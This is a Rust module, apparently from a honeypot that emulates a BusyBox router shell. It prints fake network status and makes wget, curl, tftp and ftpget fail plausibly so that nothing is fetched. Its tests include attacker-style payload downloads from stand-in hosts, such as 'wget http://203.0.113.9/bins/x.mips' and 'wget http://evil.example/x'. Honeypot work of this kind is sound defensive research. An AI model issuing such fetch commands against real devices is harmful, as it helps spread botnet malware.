//! The network as the device sees it (`ifconfig`, `ip`, `route`, `netstat`) and downloads that
//! fail plausibly (`wget`, `curl`, `tftp`, `ftpget`): nothing is ever fetched.

use std::fmt::Write as _;

use crate::shell::image::BUSYBOX_VERSION;
use crate::shell::{Res, Shell};

pub(super) const IFCONFIG: &str = "br0       Link encap:Ethernet  HWaddr 00:0C:43:76:21:01  \n\
\x20         inet addr:192.168.1.1  Bcast:192.168.1.255  Mask:255.255.255.0\n\
\x20         UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n\
\x20         RX packets:184214 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:201377 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:0 \n\
\x20         RX bytes:23410977 (22.3 MiB)  TX bytes:187212034 (178.5 MiB)\n\n\
eth0      Link encap:Ethernet  HWaddr 00:0C:43:76:21:01  \n\
\x20         UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n\
\x20         RX packets:2061830 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:1893315 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:1000 \n\
\x20         RX bytes:1941223587 (1.8 GiB)  TX bytes:312478114 (298.0 MiB)\n\
\x20         Interrupt:3 \n\n\
eth0.2    Link encap:Ethernet  HWaddr 00:0C:43:76:21:02  \n\
\x20         inet addr:100.72.14.203  Bcast:100.72.15.255  Mask:255.255.240.0\n\
\x20         UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n\
\x20         RX packets:1877616 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:1691938 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:0 \n\
\x20         RX bytes:1886310922 (1.7 GiB)  TX bytes:118766324 (113.2 MiB)\n\n\
lo        Link encap:Local Loopback  \n\
\x20         inet addr:127.0.0.1  Mask:255.0.0.0\n\
\x20         UP LOOPBACK RUNNING  MTU:65536  Metric:1\n\
\x20         RX packets:1204 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:1204 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:0 \n\
\x20         RX bytes:98312 (96.0 KiB)  TX bytes:98312 (96.0 KiB)\n\n";

pub(super) const IP_ADDR: &str = "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue \n\
\x20   link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n\
\x20   inet 127.0.0.1/8 scope host lo\n\
2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc pfifo_fast qlen 1000\n\
\x20   link/ether 00:0c:43:76:21:01 brd ff:ff:ff:ff:ff:ff\n\
3: br0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue \n\
\x20   link/ether 00:0c:43:76:21:01 brd ff:ff:ff:ff:ff:ff\n\
\x20   inet 192.168.1.1/24 brd 192.168.1.255 scope global br0\n\
4: eth0.2@eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue \n\
\x20   link/ether 00:0c:43:76:21:02 brd ff:ff:ff:ff:ff:ff\n\
\x20   inet 100.72.14.203/20 brd 100.72.15.255 scope global eth0.2\n";

pub(super) const IP_ROUTE: &str = "default via 100.72.0.1 dev eth0.2 \n\
100.72.0.0/20 dev eth0.2  proto kernel  scope link  src 100.72.14.203 \n\
192.168.1.0/24 dev br0  proto kernel  scope link  src 192.168.1.1 \n";

pub(super) const ROUTE: &str = "Kernel IP routing table\n\
Destination     Gateway         Genmask         Flags Metric Ref    Use Iface\n\
0.0.0.0         100.72.0.1      0.0.0.0         UG    0      0        0 eth0.2\n\
100.72.0.0      0.0.0.0         255.255.240.0   U     0      0        0 eth0.2\n\
192.168.1.0     0.0.0.0         255.255.255.0   U     0      0        0 br0\n";

pub(super) const NETSTAT_SERVERS: &str = "Active Internet connections (servers and established)\n\
Proto Recv-Q Send-Q Local Address           Foreign Address         State       \n\
tcp        0      0 0.0.0.0:80              0.0.0.0:*               LISTEN      \n\
tcp        0      0 0.0.0.0:53              0.0.0.0:*               LISTEN      \n\
tcp        0      0 0.0.0.0:23              0.0.0.0:*               LISTEN      \n\
udp        0      0 0.0.0.0:53              0.0.0.0:*                           \n\
udp        0      0 0.0.0.0:67              0.0.0.0:*                           \n";

/// Is this a dotted IPv4 address (as opposed to a host name needing DNS)?
pub(super) fn is_ipv4(host: &str) -> bool {
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

/// Splits a URL into (host, port) for the download tools' messages.
pub(super) fn parse_url(url: &str) -> (String, u16) {
    let (rest, default_port) = if let Some(r) = url.strip_prefix("https://") {
        (r, 443)
    } else if let Some(r) = url.strip_prefix("ftp://") {
        (r, 21)
    } else {
        (url.strip_prefix("http://").unwrap_or(url), 80)
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    match hostport.rsplit_once(':') {
        Some((h, p)) => (h.to_string(), p.parse().unwrap_or(default_port)),
        None => (hostport.to_string(), default_port),
    }
}

impl Shell {
    /// Positional arguments of a download tool, skipping options that take a value.
    pub(super) fn positionals<'b>(args: &'b [String], with_value: &[&str]) -> Vec<&'b str> {
        let mut out = Vec::new();
        let mut it = args.iter();
        while let Some(a) = it.next() {
            if with_value.contains(&a.as_str()) {
                it.next();
            } else if !a.starts_with('-') || a == "-" {
                out.push(a.as_str());
            }
        }
        out
    }

    pub(super) fn wget(&self, args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &[
                "-O",
                "-P",
                "-U",
                "-T",
                "-Y",
                "--header",
                "--user-agent",
                "--post-data",
                "-o",
            ],
        );
        let Some(url) = pos.first() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\n\t[--header 'header: value'] [-Y|--proxy on/off] [-P DIR]\n\t[-U|--user-agent AGENT] [-T SEC] URL...\n"
                ),
                1,
            );
        };
        let quiet = args.iter().any(|a| a == "-q" || a == "--quiet");
        let (host, port) = parse_url(url);
        if !is_ipv4(&host) {
            return Res::fail(format!("wget: bad address '{host}'\n"), 1);
        }
        let mut err = String::new();
        if !quiet {
            let shown = url
                .split("://")
                .nth(1)
                .unwrap_or(url)
                .split(['/', '?'])
                .next()
                .unwrap_or(&host);
            let shown = shown.rsplit_once('@').map_or(shown, |(_, h)| h);
            let _ = writeln!(err, "Connecting to {shown} ({host}:{port})");
        }
        let _ = writeln!(
            err,
            "wget: can't connect to remote host ({host}): Connection timed out"
        );
        Res::fail(err, 1)
    }

    pub(super) fn curl(args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &[
                "-o",
                "-A",
                "-H",
                "-d",
                "-X",
                "-u",
                "-e",
                "-m",
                "--connect-timeout",
                "--output",
            ],
        );
        let Some(url) = pos.first() else {
            return Res::fail("curl: try 'curl --help' for more information\n", 2);
        };
        let (host, port) = parse_url(url);
        if is_ipv4(&host) {
            Res::fail(
                format!(
                    "curl: (7) Failed to connect to {host} port {port}: Connection timed out\n"
                ),
                7,
            )
        } else {
            Res::fail(format!("curl: (6) Couldn't resolve host '{host}'\n"), 6)
        }
    }

    pub(super) fn tftp(args: &[String]) -> Res {
        let pos = Self::positionals(args, &["-l", "-r", "-b"]);
        let Some(host) = pos.first() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\nTransfer a file from/to tftp server\n\n\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n\t-p\tPut file\n\t-b SIZE\tTransfer blocks of SIZE octets\n"
                ),
                1,
            );
        };
        if is_ipv4(host) {
            Res::fail("tftp: timeout\n", 1)
        } else {
            Res::fail(format!("tftp: bad address '{host}'\n"), 1)
        }
    }

    pub(super) fn ftpget(name: &str, args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &["-u", "-p", "-P", "--username", "--password", "--port"],
        );
        let Some(host) = pos.first() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: {name} [OPTIONS] HOST [LOCAL_FILE] REMOTE_FILE\n"
                ),
                1,
            );
        };
        if is_ipv4(host) {
            Res::fail(
                format!("{name}: can't connect to remote host ({host}): Connection timed out\n"),
                1,
            )
        } else {
            Res::fail(format!("{name}: bad address '{host}'\n"), 1)
        }
    }
}

#[cfg(test)]
#[allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::expect_used,
    clippy::panic
)]
mod tests {
    use crate::shell::test_support::{root, run};

    #[test]
    fn layouts_keep_their_indentation() {
        let mut sh = root();
        assert!(run(&mut sh, "ifconfig").contains("\r\n          inet addr:192.168.1.1  Bcast:"));
        assert!(run(&mut sh, "ip addr").contains("\r\n    inet 192.168.1.1/24 brd"));
        assert!(run(&mut sh, "busybox").contains("\r\n   or: busybox --install [-s] [DIR]\r\n"));
        assert_eq!(run(&mut sh, "cd /proc/self; pwd"), "/proc/self\r\n");
    }

    #[test]
    fn downloads_fail_plausibly() {
        let mut sh = root();
        assert_eq!(
            run(&mut sh, "cd /tmp; wget http://203.0.113.9/bins/x.mips -O x"),
            "Connecting to 203.0.113.9 (203.0.113.9:80)\r\nwget: can't connect to remote host (203.0.113.9): Connection timed out\r\n"
        );
        assert!(!sh.exists("/tmp/x"));
        assert_eq!(
            run(&mut sh, "wget http://evil.example/x"),
            "wget: bad address 'evil.example'\r\n"
        );
        assert_eq!(
            run(&mut sh, "curl -O http://198.51.100.7:8080/a"),
            "curl: (7) Failed to connect to 198.51.100.7 port 8080: Connection timed out\r\n"
        );
        assert_eq!(
            run(&mut sh, "tftp -g -r x 198.51.100.7"),
            "tftp: timeout\r\n"
        );
        assert_eq!(
            run(&mut sh, "ftpget -v -u a -p b 198.51.100.7 x x"),
            "ftpget: can't connect to remote host (198.51.100.7): Connection timed out\r\n"
        );
        assert_eq!(
            run(&mut sh, "wget -q http://1.2.3.4:81/a"),
            "wget: can't connect to remote host (1.2.3.4): Connection timed out\r\n"
        );
    }
}
